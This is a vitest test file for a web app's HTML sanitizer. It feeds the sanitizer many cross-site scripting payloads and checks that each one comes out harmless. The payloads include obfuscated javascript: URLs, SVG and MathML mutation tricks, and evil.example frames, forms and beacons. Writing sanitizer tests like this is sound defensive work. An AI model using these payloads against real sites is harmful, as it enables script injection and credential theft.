import { afterEach, describe, expect, it, vi } from 'vitest';
import { env } from '@/config/env';
import { sanitizeHtml, sanitizeToFragment } from './sanitize';

/** Tags and attributes that may do something by themselves; none may be left after cleaning. */
const activeTags =
  'script, style, link, meta, base, object, embed, form, input, button, textarea, select, svg, math, template, noscript, video, audio, frame, frameset, marquee, title, body, html, head';

function dangersIn(html: string): string[] {
  const fragment = sanitizeToFragment(html);
  const dangers = [...fragment.querySelectorAll(activeTags)].map((element) => element.tagName);
  for (const element of fragment.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^srcset$|^formaction$|^xlink|^is$|^ping$|^target$/i.test(name)) {
        dangers.push(name);
      }
      // Browsers skip blanks and control characters in front of and within a scheme.
      const address = value.replace(/[^!-~]/g, '');
      if (/^(href|src|cite)$/.test(name) && /^(javascript|vbscript|data):/i.test(address)) {
        dangers.push(`${name}=${value}`);
      }
    }
  }
  return dangers;
}

/** What an attack would do when it worked. */
function expectHarmless(html: string): void {
  expect(dangersIn(html)).toEqual([]);
  const once = sanitizeHtml(html);
  expect(sanitizeHtml(once)).toBe(once);
  expect(dangersIn(once)).toEqual([]);
}

afterEach(() => {
  Reflect.deleteProperty(window, 'attacked');
});

describe('D01: scripts and event handlers', () => {
  it.each([
    '<script>window.attacked = 1</script>',
    '<scr<script>ipt>window.attacked = 1</scr</script>ipt>',
    '<img src="/x.png" onerror="window.attacked = 1">',
    '<body onload="window.attacked = 1">text</body>',
    '<p onfocus="window.attacked = 1" tabindex="0" autofocus>text</p>',
    '<details open ontoggle="window.attacked = 1"><summary>more</summary>text</details>',
    '<a href="/x" onclick="window.attacked = 1" ONMOUSEOVER=window.attacked=1>text</a>',
    "<img src=x id/=' onerror=window.attacked=1//'>",
    '<img/src="x"/onerror=window.attacked=1>',
    '<div onpointerrawupdate="window.attacked = 1" onbeforetoggle=x onanimationstart=x>text</div>',
  ])('%s', (html) => {
    expectHarmless(html);
    document.body.replaceChildren(sanitizeToFragment(html));
    expect(window).not.toHaveProperty('attacked');
  });

  it('leaves the words and tags around an attack', () => {
    expect(sanitizeHtml('<p>before <script>x()</script><em>after</em></p>')).toBe(
      '<p>before <em>after</em></p>',
    );
    expect(sanitizeHtml('<details open ontoggle="x()"><summary>more</summary>text</details>')).toBe(
      '<details open=""><summary>more</summary>text</details>',
    );
  });
});

describe('D02: addresses that run', () => {
  it.each([
    'javascript:attack()',
    'JaVaScRiPt:attack()',
    'java\tscript:attack()',
    'java\nscript:attack()',
    'java\u0000script:attack()',
    '\u0001javascript:attack()',
    '  javascript:attack()',
    '\u00a0javascript:attack()',
    '\u2028javascript:attack()',
    '&#106;avascript:attack()',
    '&#x6A;&#x61;vascript&colon;attack()',
    'javascript&Tab;:attack()',
    'vbscript:attack()',
    'data:text/html,<script>attack()</script>',
    'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
    'blob:https://careerloom.example/1',
    'file:///etc/passwd',
    'view-source:https://careerloom.example',
    '//evil.example/path',
    '/\\evil.example',
    '/\t/evil.example',
  ])('takes a link with the address %j away, and leaves its words', (address) => {
    const html = `<p><a href="${address}">words <img src=x onerror=attack()></a></p>`;
    const fragment = sanitizeToFragment(html);
    expect(fragment.querySelector('a')).toBeNull();
    expect(fragment.textContent).toBe('words ');
    expectHarmless(html);
  });

  it('leaves an anchor without an address, which links lead to', () => {
    expect(sanitizeToFragment('<a id="dates"></a>').querySelector('a')).not.toBeNull();
  });

  it.each(['javascript:attack()', 'data:text/html,x', 'data:image/svg+xml,<svg/>', 'vbscript:x'])(
    'removes the address %j from a picture and a quotation',
    (address) => {
      const html = `<img src="${address}" alt="x"><blockquote cite="${address}">x</blockquote>`;
      expectHarmless(html);
      expect(sanitizeToFragment(html).querySelector('img')).toBeNull();
    },
  );

  it.each([
    'https://example.com/a?b=c&amp;d#e',
    'http://example.com',
    'mailto:support@careerloom.example',
    'tel:+910000000000',
    '/blogs',
    '#section-one',
    './next',
    '../up',
  ])('keeps %s', (address) => {
    const link = sanitizeToFragment(`<a href="${address}">words</a>`).querySelector('a');
    expect(link?.getAttribute('href')).toBe(address.replace('&amp;', '&'));
  });
});

describe('D03: foreign content and mutation', () => {
  it.each([
    '<svg><script>attack()</script></svg>',
    '<svg onload=attack()><circle r="1"></circle></svg>',
    '<svg><animate onbegin=attack() attributeName=x dur=1s></svg>',
    '<svg><a id="x"><animate attributeName="href" values="javascript:attack()"/><text>x</text></a></svg>',
    '<svg><set href="#x" attributeName="href" to="javascript:attack()"/><a id=x>y</a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>attack()</script>"></iframe></foreignObject></svg>',
    '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/></svg>',
    '<svg><image href="x" onerror="attack()"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
    '<svg><style><img src=x onerror=attack()></style></svg>',
    '<svg><p><style><a title="</style><img src onerror=attack()>"></a></style></p></svg>',
    '<svg><desc><noscript><!--</noscript><img src onerror=attack()>--></noscript></desc></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
    '<math><mi//xlink:href="data:x,<script>attack()</script>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=attack()></style></annotation-xml></math>',
    '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=attack() src>"></path></style></mtext></svg></mglyph></mtext></math>',
    '<listing>&lt;img onerror="attack();//" src=x&gt;<t t></listing>',
    '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
    '<b><noscript><!-- </noscript><img src=x onerror=attack() --></noscript>',
    '<textarea><!--</textarea><img src=x onerror=attack()>--></textarea>',
    '<title><a href="</title><img src=x onerror=attack()>">x</a></title>',
    '<xmp><p title="</xmp><img src=x onerror=attack()>"></xmp>',
    '<template><s><template><s><img src=x onerror=attack()>x</s></template></s></template>',
    '<option><style></option></select><b><img src=x onerror=attack()></style></option>',
    '<!--><img src=x onerror=attack()>-->',
    '<![CDATA[><img src=x onerror=attack()>]]>',
    '<?xml-stylesheet href="javascript:attack()"?><p>x</p>',
    '<x-custom is="y" onclick=attack()><p>x</p></x-custom>',
    `${'<div>'.repeat(600)}<svg><style><img src onerror=attack()></style></svg>`,
  ])('%s', (html) => {
    expectHarmless(html);
  });

  it('keeps content from standing in for properties of the document', () => {
    const fragment = sanitizeToFragment(
      '<a id="root" href="#x">x</a><img name="cookie" src="/x.png"><form name="body"><input name="attributes"></form>',
    );
    expect(fragment.querySelector('[name], #root, form, input')).toBeNull();
    expect(fragment.querySelector('a')?.id).toBe('user-content-root');
  });
});

describe('D04: embedded documents and forms', () => {
  it.each([
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:attack()"></iframe>',
    '<iframe srcdoc="<script>attack()</script>"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com@evil.example/embed/x"></iframe>',
    '<iframe src="http://www.youtube-nocookie.com/embed/x"></iframe>',
    '<iframe src="//www.youtube-nocookie.com/embed/x"></iframe>',
    '<iframe src="https://evil.example/?https://www.youtube-nocookie.com/"></iframe>',
    '<iframe></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input type="password" name="p"><button>Sign in</button></form>',
    '<button formaction="https://evil.example/">Go</button>',
  ])('%s', (html) => {
    expectHarmless(html);
    expect(sanitizeToFragment(html).querySelector('iframe')).toBeNull();
  });

  it('drops srcdoc even from a frame of an allowed host', () => {
    const html =
      '<iframe src="https://www.youtube-nocookie.com/embed/x" srcdoc="<script>attack()</script>"></iframe>';
    expectHarmless(html);
    expect(sanitizeToFragment(html).querySelector('iframe')?.hasAttribute('srcdoc')).toBe(false);
  });

  it.each(['https://www.youtube-nocookie.com/embed/abc', 'https://player.vimeo.com/video/1'])(
    'keeps the video %s, sandboxed and titled',
    (address) => {
      const html = `<figure><iframe src="${address}" width="560" height="315" allowfullscreen></iframe></figure>`;
      const frame = sanitizeToFragment(html).querySelector('figure > iframe');
      expect(frame?.getAttribute('src')).toBe(address.replace(/video\/1$/, '$&?dnt=1'));
      expect(frame?.getAttribute('sandbox')).toContain('allow-scripts');
      expect(frame?.getAttribute('sandbox')).not.toMatch(/top-navigation|allow-forms|allow-popups/);
      expect(frame?.getAttribute('title')).toBe('Video');
      expect(frame?.getAttribute('loading')).toBe('lazy');
      const once = sanitizeHtml(html);
      expect(sanitizeHtml(once)).toBe(once);
    },
  );
});

describe('D05: styles', () => {
  it.each([
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in again</div>',
    '<p style="background:url(https://evil.example/beacon)">x</p>',
    '<style>@import "https://evil.example/x.css";</style><p>x</p>',
    '<style>body{display:none}</style>',
    '<p class="fixed inset-0 z-toast" style="">x</p>',
  ])('%s', (html) => {
    expectHarmless(html);
    expect(sanitizeToFragment(html).querySelector('[class]')).toBeNull();
  });
});

describe('what authors need survives', () => {
  it.each([
    '<h2>Heading</h2><h3>Smaller</h3><p>A <strong>strong</strong> and <em>soft</em> <code>word</code>.</p>',
    '<ul><li>one<ol start="3" reversed=""><li value="3">two</li></ol></li></ul>',
    '<table><caption>Pay</caption><thead><tr><th scope="col">Role</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">x</td></tr></tbody></table>',
    '<pre><code class="language-c++">if (a &lt; b) return;</code></pre>',
    '<blockquote cite="https://example.com/">Words<br><cite>Somebody</cite></blockquote>',
    '<dl><dt>Term</dt><dd>Meaning</dd></dl><hr><p>H<sub>2</sub>O <abbr title="Search">SEO</abbr> <mark>x</mark> <time datetime="2026-11-20">today</time></p>',
  ])('%s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps a figure with its caption and lets the browser wait for the picture', () => {
    expect(
      sanitizeHtml(
        '<figure><img src="https://example.com/a.webp" alt="A &quot;loom&quot;" width="10" height="5"><figcaption>Cloth</figcaption></figure>',
      ),
    ).toBe(
      '<figure><img src="https://example.com/a.webp" alt="A &quot;loom&quot;" width="10" height="5" loading="lazy"><figcaption>Cloth</figcaption></figure>',
    );
  });

  it('keeps language classes and no other class', () => {
    expect(sanitizeHtml('<code class="language-ts bg-danger language-<b>">x</code>')).toBe(
      '<code class="language-ts">x</code>',
    );
  });

  it('gives links that leave the site rel="noopener" and takes any other rel away', () => {
    const links = sanitizeToFragment(
      '<a href="https://example.com" rel="opener" target="_blank">a</a><a href="/blogs" rel="opener">b</a>',
    ).querySelectorAll('a');
    expect([...links].map((link) => [link.rel, link.target])).toEqual([
      ['noopener', ''],
      ['', ''],
    ]);
  });

  it('prefixes ids once, however often the text is cleaned', () => {
    const once = sanitizeHtml('<h2 id="intro">x</h2>');
    expect(once).toBe('<h2 id="user-content-intro">x</h2>');
    expect(sanitizeHtml(once)).toBe(once);
  });

  it('resolves the addresses of stored pictures for showing, and leaves them relative for storing', () => {
    const html = '<img src="/storage/v1/object/public/blog-images/a.webp" alt="">';
    const origin = vi.spyOn(env, 'assetOrigin', 'get').mockReturnValue('https://p.example');
    expect(sanitizeToFragment(html).querySelector('img')?.getAttribute('src')).toBe(
      'https://p.example/storage/v1/object/public/blog-images/a.webp',
    );
    origin.mockRestore();
    expect(sanitizeToFragment(html).querySelector('img')?.getAttribute('src')).toBe(
      '/storage/v1/object/public/blog-images/a.webp',
    );
    expect(sanitizeHtml(html)).toContain('src="/storage/v1/object/public/blog-images/a.webp"');
  });
});
